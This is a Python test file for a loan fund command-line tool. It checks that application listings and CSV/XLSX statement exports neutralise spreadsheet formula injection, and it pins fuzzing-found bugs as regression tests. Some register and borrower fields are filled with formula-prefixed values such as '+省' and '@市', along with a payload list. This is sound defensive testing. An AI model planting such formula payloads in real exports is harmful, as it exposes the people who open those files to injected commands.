def test_application_list_and_show_neutralise_formulas(engine: Engine, tmp_path: Path) -> None:
    from tests.factories import write_csv

    setup_fund(engine)
    fund = Fund(engine.url.render_as_string(hide_password=False))
    path = write_csv(tmp_path / "evil.csv", _formula_rows(random.Random(1), EXPORT_PAYLOADS))
    taken = fund("--json", "applications", "import", str(path), "--date", "2019-07-01",
                 "--as", "lq")  # fmt: skip
    assert taken.exit_code == 0, taken.output
    ids = [t["id"] for t in json.loads(taken.stdout)["taken"]]
    outputs = {"list --json": fund("--json", "applications", "list", "--as", "fin1")}
    outputs["list"] = fund("applications", "list", "--as", "fin1")
    for i in ids:
        outputs[f"show {i} --json"] = fund("--json", "applications", "show", str(i), "--as", "fin1")
        outputs[f"show {i}"] = fund("applications", "show", str(i), "--as", "fin1")
    unsafe = []
    for name, result in outputs.items():
        assert result.exit_code == 0, result.output
        if name.endswith("--json"):
            unsafe += [(name, s) for s in _walk(json.loads(result.stdout)) if _dangerous(s)]
        else:
            for payload in EXPORT_PAYLOADS:
                if re.search(r"(^|\s|[:：])" + re.escape(payload[:12]), result.stdout, re.M):
                    unsafe.append((name, payload))
    assert not unsafe, unsafe


def _statement_cells(path: Path) -> Iterator[str]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                yield from row
    else:
        from openpyxl import load_workbook

        book = load_workbook(path)
        for ws in book.worksheets:
            for row in ws.iter_rows(values_only=True):
                yield from (v for v in row if isinstance(v, str))


def test_statement_exports_neutralise_formulas(engine: Engine, tmp_path: Path) -> None:
    """County names from the register and borrowers' names reach the statement tables."""
    if "statement" not in fund_group.commands:
        pytest.skip("`fund statement` does not exist yet: export case skipped")
    setup_fund(engine)
    url = engine.url.render_as_string(hide_password=False)
    fund = Fund(url)
    register = tmp_path / "register.csv"
    with register.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(
            [
                ["code", "name", "province", "prefecture", "category"],
                ["140224", EXPORT_PAYLOADS[0], "+省", "@市", "national"],
            ]
        )
    assert fund("counties", "import", str(register), "--as", "root").exit_code == 0
    ids = []
    with UnitOfWork(engine) as uow:  # borrowers named like formulas
        for i, payload in enumerate(EXPORT_PAYLOADS):
            row = application_row(random.Random(i), 900 + i, "140224", ON)
            row.update(name=payload[:50], amount="20000", term_months="24", local_support="反担保")
            app, errors = parse_application(row)
            assert not errors, errors
            report = applications.submit(uow.conn, "lq", [(None, app)], ON)
            assert not report.problems, report.problems
            ids.append(report.taken[0][2])
        uow.commit()
    for app_id in ids:
        for line in (
            f"approve {app_id} --date 2019-07-02 --as fin1",
            f"local-support record {app_id} --kind counter-guarantee --amount 10000 "
            f"--guarantor 县政府 --ref CG-{app_id} --date 2019-07-03 --as fin1",
            f"disburse {app_id} --date 2019-07-05 --as fin2",
        ):
            result = fund(*line.split())
            assert result.exit_code == 0, (line, result.output)
    unsafe = []
    for fmt in ("csv", "xlsx"):
        for what in (["fund"], ["county", "140224"]):
            out = tmp_path / f"{what[0]}.{fmt}"
            result = fund("statement", *what, "--from", "2019-01-01", "--to", "2019-12-31",
                          "--format", fmt, "--out", str(out), "--as", "fin1")  # fmt: skip
            assert result.exit_code == 0, result.output
            files = sorted(tmp_path.glob(f"{what[0]}*.{fmt}"))
            assert files
            cells = [c for f in files for c in _statement_cells(f)]
            defused = [c for c in cells if c[:1] == "'" and c[1:2] in "=+-@"]
            assert defused, f"{what} {fmt}: no formula-like text reached the export"
            unsafe += [(what[0], fmt, c) for c in cells if _dangerous(c)]
    assert not unsafe, unsafe


# --- bugs the fuzzing found: pinned while open (strict xfail), then regression tests ---


def test_known_register_csv_errors(pristine: World, tmp_path: Path) -> None:
    header = "code,name,province,category"
    path = tmp_path / "register.csv"
    # Excel for Mac's CR line ends are a register like any other
    path.write_bytes(f"{header}\r140224,灵丘县,山西省,national\r".encode())
    result = pristine.fund("--json", "counties", "import", str(path), "--as", "root")
    assert result.exit_code == 0, result.stderr
    doc = json.loads(result.stdout)
    assert doc["added"] + doc["updated"] + doc["unchanged"] == 1
    for content in (
        f"{header}\n140224,灵丘\r县,山西省,national\n",
        f"{header}\n140224,{HUGE},山西省,national\n",
    ):
        path.write_bytes(content.encode())
        before = snapshot(pristine.engine)
        result = pristine.fund("counties", "import", str(path), "--as", "root")
        judge(result, usage_ok=False)
        assert result.exit_code == 1
        assert snapshot(pristine.engine) == before


def _hits_known_register_bug(content: bytes) -> bool:
    """Whether the register parser fails on ``content`` as test_known_register_csv_errors."""
    try:
        register.parse_register(content)
    except csv.Error:
        return True
    except InputError:
        pass
    return False


def test_known_register_lengths(pristine: World, tmp_path: Path) -> None:
    for province, prefecture in (("省" * 41, "大同市"), ("山西省", "市" * 81)):
        path = tmp_path / "register.csv"
        path.write_text(
            f"code,name,province,prefecture,category\n140224,灵丘县,{province},{prefecture},"
            "national\n"
        )
        before = snapshot(pristine.engine)
        result = pristine.fund("counties", "import", str(path), "--as", "root")
        judge(result, usage_ok=False)
        assert result.exit_code == 1 and snapshot(pristine.engine) == before


def test_out_of_range_ids_are_refused(pristine: World) -> None:
    """An id beyond 64 bits is a usage error, not a database fault (was a bug)."""
    big = str(2**70)
    for args in (
        ["repay", big, "--amount", "1", "--date", "2020-01-15", "--ref", "big", "--as", "fin1"],
        ["applications", "show", big, "--as", "fin1"],
        ["approve", big, "--date", "2020-01-15", "--as", "fin1"],
        ["schedule", big, "--as", "fin1"],
    ):
        judge(pristine.fund(*args))


def test_long_refs_are_refused(pristine: World) -> None:
    """A ref over 64 characters is refused with a reason, nothing written (was a bug)."""
    long_ref = "R" * 65
    for args in (
        ["repay", str(pristine.loan), "--amount", "1", "--date", "2020-01-15", "--ref", long_ref],
        ["recoveries", "record", str(pristine.claimed), "--amount", "1", "--date", "2020-01-15",
         "--ref", long_ref],
        ["local-support", "record", str(pristine.approved), "--kind", "matching", "--amount", "1",
         "--date", "2020-01-15", "--ref", long_ref],
    ):  # fmt: skip
        before = snapshot(pristine.engine)
        result = pristine.fund(*args, "--as", "fin1")
        judge(result)
        assert result.exit_code == 1 and snapshot(pristine.engine) == before, result.output


def test_blank_repayment_ref_is_refused(pristine: World) -> None:
    """A blank --ref is refused with a reason, nothing written (was a bug)."""
    before = snapshot(pristine.engine)
    result = pristine.fund(
        "repay", str(pristine.loan), "--amount", "1", "--date", "2020-01-15", "--ref", " ",
        "--as", "fin1",
    )  # fmt: skip
    judge(result)
    assert result.exit_code == 1 and snapshot(pristine.engine) == before, result.output


def test_known_far_future_disbursement(engine: Engine) -> None:
    setup_fund(engine)
    fid = _submit(engine, 1, "反担保")
    with UnitOfWork(engine) as uow:
        decisions.approve(uow.conn, "fin1", fid, ON)
        support = local_support.SupportIn(fid, "counter-guarantee", 1_500_000, ON, "CG", "县政府")
        local_support.record(uow.conn, "fin1", support)
        uow.commit()
    before = snapshot(engine)
    fund = Fund(engine.url.render_as_string(hide_password=False))
    judge(fund("disburse", str(fid), "--date", "9998-06-01", "--as", "fin2"))
    assert snapshot(engine) == before


def test_policy_show_human_output(pristine: World) -> None:
    """`fund policy show` prints every figure, lists included (was an internal error)."""
    result = pristine.fund("policy", "show", "--on", "2020-02-29")
    judge(result)
    assert result.exit_code == 0, result.output


def test_known_statement_from_year_one(pristine: World) -> None:
    out = pristine.files / "year-one.csv"
    judge(
        pristine.fund("statement", "fund", "--from", "0001-01-01", "--to", "2019-12-31",
                      "--format", "csv", "--out", str(out), "--as", "aud")
    )  # fmt: skip


def test_known_control_characters_in_register(engine: Engine, tmp_path: Path) -> None:
    setup_fund(engine)
    disbursed(engine, 1)
    fund = Fund(engine.url.render_as_string(hide_password=False))
    register = tmp_path / "register.csv"
    with register.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(
            [
                ["code", "name", "province", "category"],
                ["140224", "灵丘县", "山西\x1b省", "national"],
            ]
        )
    judge(fund("counties", "import", str(register), "--as", "root"))
    assert fund("operators", "add", "aud", "--role", "auditor", "--as", "root").exit_code == 0
    result = fund(
        "statement", "fund", "--from", "2019-01-01", "--to", "2019-12-31", "--format", "xlsx",
        "--out", str(tmp_path / "fund.xlsx"), "--as", "aud",
    )  # fmt: skip
    judge(result)
    assert result.exit_code == 0, result.output
